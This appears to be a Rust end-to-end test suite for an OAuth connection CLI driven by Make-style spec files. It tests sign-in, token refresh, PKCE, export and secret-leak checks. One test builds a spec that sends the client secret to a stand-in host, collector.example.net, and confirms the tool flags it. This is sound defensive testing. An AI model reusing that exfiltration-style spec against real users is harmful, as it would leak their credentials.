//! Make-style spec connections end to end through the CLI: the App Academy
//! stand-in by the shipped spec and by the flag preset (same results), and a
//! provider only a spec can talk to (preauthorize, PKCE inside the spec, a
//! nested text/plain token answer, `valid`, per-status errors, metadata,
//! refresh by `refresh.condition` with a rotating refresh token kept through
//! `ifempty`, `invalidate` on disconnect, both folder layouts). Each test
//! ends by searching the data directory and every line printed for secrets.

use latch_e2e::{repo_root, Latch, Provider};
use serde_json::{json, Value};

const MINUTE: i64 = 60_000;

/// The shipped App Academy spec, pointed at the stand-in.
fn academy_spec(dir: &std::path::Path, academy: &Provider) -> std::path::PathBuf {
    let text = std::fs::read_to_string(repo_root().join("presets/specs/app-academy.latch-spec.json")).unwrap();
    let text = text.replace("https://virtserver.swaggerhub.com/TKLOBOUCKOVA/app-academy-v2/1.0.0", &academy.base);
    let path = dir.join("academy.latch-spec.json");
    std::fs::write(&path, text).unwrap();
    path
}

#[test]
fn the_app_academy_spec_connects_refreshes_requests_and_invalidates_like_the_flag_preset() {
    let academy = Provider::academy(&["--access-minutes", "30"]);
    let latch = Latch::new();
    let spec = academy_spec(latch.data_dir.path(), &academy);
    let spec = spec.to_str().unwrap();
    let checked = latch.ok(&["spec", "check", spec]);
    assert!(checked.contains("is a valid spec"), "{checked}");

    latch.ok_with_stdin(
        &["add", "--spec", spec, "--name", "Academy spec", "--common", "clientId=academy-client", "--common-stdin", "clientSecret"],
        "academy-secret\n",
    );
    let connected = latch.ok(&["connect", "Academy spec", "--timeout", "20"]);
    assert!(connected.contains("Jane Doe"), "{connected}");
    let shown = latch.show("Academy spec");
    assert_eq!(shown["kind"], "spec");
    assert_eq!(shown["account"], "Jane Doe");
    assert_eq!(shown["status"], "connected");
    assert!(shown.get("data").is_none(), "the data is a secret: {shown}");
    assert!(shown["spec"]["common"]["clientSecret"].is_null(), "common values stay out of the settings: {shown}");

    let token = latch.ok(&["token", "Academy spec"]).trim().to_owned();
    assert!(!token.is_empty());
    let by_spec = latch.ok(&["request", "Academy spec", "/api/things"]);
    let by_spec: Value = serde_json::from_str(&by_spec).unwrap();

    // The flag preset against the same stand-in answers the same.
    latch.ok_with_stdin(
        &[
            "add", "--preset", "app-academy", "--name", "Academy flags", "--client-id", "academy-client", "--client-secret-stdin",
            "--authorize-url", &academy.url("/authorize"), "--token-url", &academy.url("/token"),
            "--refresh-url", &academy.url("/refresh"), "--revoke-url", &academy.url("/invalidate"),
            "--info-url", &academy.url("/info"), "--redirect-uri", "", "--api-base-url", &academy.base,
        ],
        "academy-secret\n",
    );
    latch.ok(&["connect", "Academy flags", "--timeout", "20"]);
    assert_eq!(latch.show("Academy flags")["account"], "Jane Doe", "the same account");
    let by_flags: Value = serde_json::from_str(&latch.ok(&["request", "Academy flags", &academy.url("/api/things")])).unwrap();
    assert_eq!(by_spec, by_flags, "the same answer from the API");
    // Connecting the flag one removed the spec one at the stand-in (one per user): reconnect.
    latch.ok(&["connect", "Academy spec", "--timeout", "20"]);
    let token = latch.ok(&["token", "Academy spec"]).trim().to_owned();

    // refresh.condition: `data.expires < addMinutes(now, 1)`. 28 minutes on: not yet.
    let before = academy.stats()["refresh_requests"].as_i64().unwrap();
    latch.step_clock(28 * MINUTE);
    assert_eq!(latch.ok(&["token", "Academy spec"]).trim(), token, "not due yet");
    assert_eq!(academy.stats()["refresh_requests"].as_i64().unwrap(), before);
    // 29.5 minutes on: the condition holds, the spec's refresh step runs.
    latch.step_clock(90_000);
    let fresh = latch.ok(&["token", "Academy spec"]).trim().to_owned();
    assert_ne!(fresh, token, "renewed by the spec's refresh step");
    assert_eq!(academy.stats()["refresh_requests"].as_i64().unwrap(), before + 1);
    let stored = latch.keyring_tokens("Academy spec").unwrap();
    let data: Value = serde_json::from_str(stored["data"].as_str().unwrap()).unwrap();
    assert_eq!(data["accessToken"], fresh.as_str(), "the data holds the new token");

    let secrets = vec![token.clone(), fresh.clone(), data["refreshToken"].as_str().unwrap().to_owned(), "academy-secret".to_owned()];
    let disconnected = latch.ok(&["disconnect", "Academy spec"]);
    assert!(!disconnected.is_empty());
    assert_eq!(academy.stats()["invalidations"].as_i64().unwrap(), 1, "the spec's invalidate step ran");
    latch.assert_no_secret_leaks(&secrets);
}

/// The spec for tests/providers/spec-provider.mjs, written as a Make app
/// developer would (section 7.2 of the spec notes).
fn quirky_spec(base: &str) -> Value {
    let url = |path: &str| format!("{base}{path}");
    json!({
        "name": "spec-quirks",
        "communication": {
            "preauthorize": [{
                "url": url("/pre"), "method": "POST", "body": {},
                "headers": { "x-api-key": "{{parameters.apiKey}}" },
                "response": { "type": "json", "temp": { "verifier": "{{body.verifier}}", "challenge": "{{body.challenge}}" } },
                "log": { "sanitize": ["request.headers.x-api-key"] }
            }],
            "authorize": {
                "url": url("/authorize"),
                "qs": {
                    "client_id": "{{common.clientId}}", "redirect_uri": "{{oauth.localRedirectUri}}", "response_type": "code",
                    "scope": "{{join(oauth.scope, ',')}}", "code_challenge": "{{temp.challenge}}", "code_challenge_method": "S256"
                },
                "response": { "temp": { "code": "{{query.code}}" } }
            },
            "token": {
                "condition": "{{temp.code}}",
                "url": url("/token"), "method": "POST", "type": "urlencoded",
                "headers": { "authorization": "Basic {{base64(common.clientId + ':' + common.clientSecret)}}" },
                "body": {
                    "grant_type": "authorization_code", "code": "{{temp.code}}",
                    "code_verifier": "{{temp.verifier}}", "redirect_uri": "{{oauth.localRedirectUri}}"
                },
                "response": {
                    "type": { "*": "json", "400-499": "text" },
                    "valid": { "condition": "{{body.result.token}}", "message": "Token missing in response" },
                    "data": {
                        "accessToken": "{{body.result.token}}", "refreshToken": "{{body.result.renew}}",
                        "expires": "{{parseDate(body.result.validUntil, 'X')}}"
                    },
                    "expires": "{{addDays(now, 90)}}",
                    "error": {
                        "message": "[{{statusCode}}] {{body}}",
                        "401": { "message": "The app's client id or secret was refused", "type": "InvalidConfigurationError" }
                    }
                }
            },
            "refresh": {
                "condition": "{{data.expires < addMinutes(now, 10)}}",
                "url": url("/token"), "method": "POST", "type": "urlencoded",
                "headers": { "authorization": "Basic {{base64(common.clientId + ':' + common.clientSecret)}}" },
                "body": { "grant_type": "refresh_token", "refresh_token": "{{data.refreshToken}}" },
                "response": {
                    "data": {
                        "accessToken": "{{body.result.token}}",
                        "refreshToken": "{{ifempty(body.result.renew, data.refreshToken)}}",
                        "expires": "{{parseDate(body.result.validUntil, 'X')}}"
                    }
                }
            },
            "info": {
                "url": url("/me"),
                "headers": { "authorization": "Bearer {{connection.accessToken}}" },
                "response": { "metadata": { "type": "email", "value": "{{body.email}}" }, "uid": "{{body.id}}" }
            },
            "invalidate": {
                "url": url("/logout"), "method": "POST",
                "headers": { "authorization": "Bearer {{connection.accessToken}}" }
            }
        },
        "parameters": [{ "name": "apiKey", "type": "password", "label": "Tenant API key", "required": true }],
        "defaultScope": ["read"],
        "scopeList": { "read": "Read your data" },
        "common": { "clientId": "", "clientSecret": "" },
        "base": { "baseUrl": url("/api"), "headers": { "authorization": "Bearer {{connection.accessToken}}" } }
    })
}

fn write(path: &std::path::Path, value: &Value) {
    std::fs::write(path, serde_json::to_string_pretty(value).unwrap()).unwrap();
}

fn add_quirky(latch: &Latch, path: &str, name: &str, secret: &str) -> std::process::Output {
    latch.run_with_stdin(
        &["add", "--spec", path, "--name", name, "--common", "clientId=spec-client", "--common-stdin", "clientSecret", "--param-stdin", "apiKey"],
        &format!("{secret}\ntenant-key-3c1e9a\n"),
    )
}

#[test]
fn a_spec_with_preauthorize_a_nested_text_answer_and_its_own_errors_connects_and_renews_by_its_condition() {
    let provider = Provider::spec(&["--access-seconds", "3600"]);
    let latch = Latch::new();
    let dir = latch.data_dir.path().with_extension("specs");
    std::fs::create_dir_all(&dir).unwrap();
    let path = dir.join("quirky.latch-spec.json");
    write(&path, &quirky_spec(&provider.base));
    let path = path.to_str().unwrap();

    // A wrong client secret: the spec's own message for a 401.
    assert!(add_quirky(&latch, path, "Wrong", "not-the-secret").status.success());
    let refused = latch.fails(&["connect", "Wrong", "--timeout", "20"], 4);
    assert!(refused.contains("The app's client id or secret was refused"), "{refused}");

    assert!(add_quirky(&latch, path, "Quirky", "spec-secret").status.success());
    let connected = latch.ok(&["connect", "Quirky", "--timeout", "20"]);
    assert!(connected.contains("ann@example.com"), "metadata labels the account: {connected}");
    assert_eq!(provider.stats()["pre"], 2, "preauthorize ran for each sign-in");
    assert_eq!(provider.stats()["last_verifier_ok"], true, "the verifier from preauthorize reached the token step");
    let shown = latch.show("Quirky");
    assert_eq!(shown["account"], "ann@example.com");
    assert!(shown["refresh_expires_at"].is_string(), "response.expires is the sign-in's end: {shown}");
    let api: Value = serde_json::from_str(&latch.ok(&["request", "Quirky", "/items"])).unwrap();
    assert_eq!(api["path"], "/api/items", "relative to the base URL");

    // `data.expires < addMinutes(now, 10)`: an hour-long token is renewed 50 minutes on, not before.
    let first = latch.ok(&["token", "Quirky"]).trim().to_owned();
    latch.step_clock(49 * MINUTE);
    assert_eq!(latch.ok(&["token", "Quirky"]).trim(), first);
    assert_eq!(provider.stats()["refresh_requests"], 0);
    latch.step_clock(2 * MINUTE);
    let second = latch.ok(&["token", "Quirky"]).trim().to_owned();
    assert_ne!(second, first);
    let rotated = serde_json::from_str::<Value>(latch.keyring_tokens("Quirky").unwrap()["data"].as_str().unwrap()).unwrap();
    // The next refresh answers without a refresh token: ifempty keeps the rotated one.
    latch.ok(&["refresh", "Quirky"]);
    let kept = serde_json::from_str::<Value>(latch.keyring_tokens("Quirky").unwrap()["data"].as_str().unwrap()).unwrap();
    assert_eq!(kept["refreshToken"], rotated["refreshToken"], "the refresh token survives an answer without one");
    assert_ne!(kept["accessToken"], rotated["accessToken"]);
    latch.ok(&["refresh", "Quirky"]);
    assert_eq!(provider.stats()["refresh_requests"], 3);

    // The step runner shows what was sent, secrets masked.
    let run = latch.ok(&["spec", "run", "Quirky", "info"]);
    assert!(run.contains("[redacted]") && run.contains("/me"), "{run}");

    let secrets: Vec<String> = vec![
        first,
        second,
        kept["accessToken"].as_str().unwrap().into(),
        kept["refreshToken"].as_str().unwrap().into(),
        "spec-secret".into(),
        "tenant-key-3c1e9a".into(),
    ];
    latch.ok(&["disconnect", "Quirky"]);
    assert_eq!(provider.stats()["invalidations"], 1);
    latch.assert_no_secret_leaks(&secrets);
}

#[test]
fn pkce_computed_inside_the_spec_and_both_folder_layouts_open_the_same_connection() {
    let provider = Provider::spec(&[]);
    let latch = Latch::new();
    // PKCE as public Make apps write it: a verifier in authorize.temp and a
    // base64url challenge from sha256 and a chain of replace calls.
    let mut spec = quirky_spec(&provider.base);
    let communication = spec["communication"].as_object_mut().unwrap();
    communication.remove("preauthorize");
    communication["authorize"]["temp"] = json!({ "verifier": "{{uuid}}{{uuid}}" });
    communication["authorize"]["qs"]["code_challenge"] =
        json!("{{replace(replace(replace(sha256(temp.verifier, 'base64'), '/[+]/g', '-'), '/[/]/g', '_'), '/=+$/', '')}}");
    communication["token"]["body"]["code_verifier"] = json!("{{temp.verifier}}");
    spec["parameters"] = json!([]);

    // Make's local-development layout, and the VS Code extension's.
    let root = latch.data_dir.path().with_extension("layouts");
    let make = root.join("make-app");
    let connection = make.join("connections/quirky");
    std::fs::create_dir_all(&connection).unwrap();
    write(&connection.join("communication.imljson"), &spec["communication"]);
    write(&connection.join("parameters.imljson"), &spec["parameters"]);
    write(&connection.join("common.imljson"), &spec["common"]);
    write(&connection.join("scope.imljson"), &spec["defaultScope"]);
    write(&connection.join("scopes.imljson"), &spec["scopeList"]);
    write(&make.join("base.imljson"), &spec["base"]);
    let vscode = root.join("vscode");
    std::fs::create_dir_all(&vscode).unwrap();
    write(&vscode.join("quirky.oauth-communication.iml.json"), &spec["communication"]);
    write(&vscode.join("quirky.params.iml.json"), &spec["parameters"]);
    write(&vscode.join("quirky.common.json"), &spec["common"]);
    write(&vscode.join("quirky.default-scope.iml.json"), &spec["defaultScope"]);
    write(&vscode.join("quirky.scope-list.iml.json"), &spec["scopeList"]);
    write(&vscode.join("base.iml.json"), &spec["base"]);

    let mut shown = Vec::new();
    for (name, dir) in [("From Make", &make), ("From VS Code", &vscode)] {
        let dir = dir.to_str().unwrap();
        latch.ok(&["spec", "check", dir]);
        latch.ok_with_stdin(
            &["add", "--spec", dir, "--name", name, "--common", "clientId=spec-client", "--common-stdin", "clientSecret"],
            "spec-secret\n",
        );
        latch.ok(&["connect", name, "--timeout", "20"]);
        assert_eq!(provider.stats()["last_verifier_ok"], true, "{name}: the challenge the spec computed matched");
        let mut connection = latch.show(name);
        assert_eq!(connection["account"], "ann@example.com");
        for key in ["id", "name", "created_at", "updated_at", "access_expires_at", "access_issued_at", "refresh_expires_at", "refresh_due_at"] {
            connection.as_object_mut().unwrap().remove(key);
        }
        connection["spec"].as_object_mut().unwrap().remove("name");
        shown.push(connection);
    }
    assert_eq!(shown[0], shown[1], "both layouts open the same connection");
    latch.assert_no_secret_leaks(&["spec-secret".to_owned(), latch.ok(&["token", "From Make"]).trim().to_owned()]);
}

#[test]
fn a_broken_spec_is_refused_with_its_places_and_nothing_is_saved() {
    let latch = Latch::new();
    let dir = latch.data_dir.path().with_extension("broken");
    std::fs::create_dir_all(&dir).unwrap();
    let path = dir.join("broken.latch-spec.json");
    let mut spec = quirky_spec("https://id.example.com");
    spec["communication"]["token"]["body"]["code"] = json!("{{tmp.code}}");
    spec["communication"]["refersh"] = json!({ "url": "https://id.example.com/token" });
    spec["communication"]["info"]["url"] = json!("https://id.example.com/me?x={{lower(}}");
    write(&path, &spec);
    let path = path.to_str().unwrap();
    let said = latch.fails(&["spec", "check", path], 2);
    assert!(said.contains("communication.refersh"), "{said}");
    assert!(said.contains("communication.token.body.code") && said.contains("'tmp'"), "{said}");
    assert!(said.contains("communication.info.url") && said.contains("at character"), "{said}");
    let output = add_quirky(&latch, path, "Broken", "spec-secret");
    assert_eq!(output.status.code(), Some(2));
    assert!(latch.ok(&["list", "--json"]).trim() == "[]", "nothing saved");

    // Invalid JSON names the line and column.
    std::fs::write(dir.join("bad.latch-spec.json"), "{ \"communication\": { \"token\": } }").unwrap();
    let said = latch.fails(&["spec", "check", dir.join("bad.latch-spec.json").to_str().unwrap()], 2);
    assert!(said.contains("line 1"), "{said}");

    // A spec that sends the client secret to another host needs confirmation.
    let mut spec = quirky_spec("https://id.example.com");
    spec["communication"]["info"]["qs"] = json!({ "s": "{{common.clientSecret}}" });
    spec["communication"]["info"]["url"] = json!("https://collector.example.net/me");
    write(&dir.join("exfil.latch-spec.json"), &spec);
    let exfil = dir.join("exfil.latch-spec.json");
    let output = add_quirky(&latch, exfil.to_str().unwrap(), "Exfil", "spec-secret");
    let said = String::from_utf8_lossy(&output.stderr);
    assert_eq!(output.status.code(), Some(2), "{said}");
    assert!(said.contains("sends your secret to collector.example.net"), "{said}");
}

#[test]
fn a_spec_connection_travels_in_an_export_without_secrets_and_an_invalid_new_spec_never_replaces_the_working_one() {
    let provider = Provider::spec(&[]);
    let latch = Latch::new();
    let dir = latch.data_dir.path().with_extension("travel");
    std::fs::create_dir_all(&dir).unwrap();
    let path = dir.join("quirky.latch-spec.json");
    write(&path, &quirky_spec(&provider.base));
    assert!(add_quirky(&latch, path.to_str().unwrap(), "Quirky", "spec-secret").status.success());
    latch.ok(&["connect", "Quirky", "--timeout", "20"]);

    // An edit with a broken spec changes nothing; a good one keeps the sign-in.
    let mut broken = quirky_spec(&provider.base);
    broken["communication"]["token"]["url"] = json!("{{lower(}}");
    write(&dir.join("broken.latch-spec.json"), &broken);
    let said = latch.fails(&["spec", "edit", "Quirky", "--spec", dir.join("broken.latch-spec.json").to_str().unwrap()], 2);
    assert!(said.contains("communication.token.url"), "{said}");
    assert_eq!(latch.show("Quirky")["spec"]["communication"]["token"]["url"], format!("{}/token", provider.base));
    let mut better = quirky_spec(&provider.base);
    better["scopeList"]["write"] = json!("Change your data");
    write(&dir.join("better.latch-spec.json"), &better);
    latch.ok(&["spec", "edit", "Quirky", "--spec", dir.join("better.latch-spec.json").to_str().unwrap(), "--scope", "read", "--scope", "write"]);
    let shown = latch.show("Quirky");
    assert_eq!(shown["status"], "connected", "still signed in");
    assert_eq!(shown["scopes"], json!(["read", "write"]));

    // The export holds the spec, never the common data, the password parameter or the data.
    let token = latch.ok(&["token", "Quirky"]).trim().to_owned();
    let file = dir.join("export.json");
    latch.ok(&["export", "Quirky", "-o", file.to_str().unwrap()]);
    let text = std::fs::read_to_string(&file).unwrap();
    for secret in ["spec-secret", "tenant-key-3c1e9a", token.as_str()] {
        assert!(!text.contains(secret), "the export holds a secret");
    }
    let other = Latch::new();
    let imported = other.ok(&["import", file.to_str().unwrap()]);
    assert!(imported.contains("latch spec edit") && imported.contains("--common-stdin clientSecret"), "{imported}");
    other.ok_with_stdin(
        &["spec", "edit", "Quirky", "--common", "clientId=spec-client", "--common-stdin", "clientSecret", "--param-stdin", "apiKey"],
        "spec-secret\ntenant-key-3c1e9a\n",
    );
    let connected = other.ok(&["connect", "Quirky", "--timeout", "20"]);
    assert!(connected.contains("ann@example.com"), "{connected}");
    other.assert_no_secret_leaks(&["spec-secret".to_owned(), "tenant-key-3c1e9a".to_owned(), other.ok(&["token", "Quirky"]).trim().to_owned()]);
    latch.assert_no_secret_leaks(&["spec-secret".to_owned(), "tenant-key-3c1e9a".to_owned(), token]);
}
